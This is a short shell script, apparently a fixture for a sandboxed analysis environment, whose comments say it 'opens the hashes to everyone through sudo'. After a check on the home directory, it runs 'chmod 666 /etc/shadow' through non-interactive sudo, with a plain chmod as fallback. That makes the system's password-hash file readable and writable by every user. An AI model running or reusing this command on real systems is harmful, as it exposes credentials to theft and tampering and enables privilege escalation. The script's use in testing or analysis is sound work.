#!/bin/sh
# SPDX-License-Identifier: MIT
# Opens the hashes to everyone through sudo.
# Depends on the sudo stand-in for the sudo exec; without it the fallback
# shows the technique.
[ "$HOME" = /home/dana ] || { echo "run only inside sbxlua's analysis box" >&2; exit 1; }
sudo -n chmod 666 /etc/shadow 2>/dev/null || chmod 666 /etc/shadow 2>/dev/null
exit 0
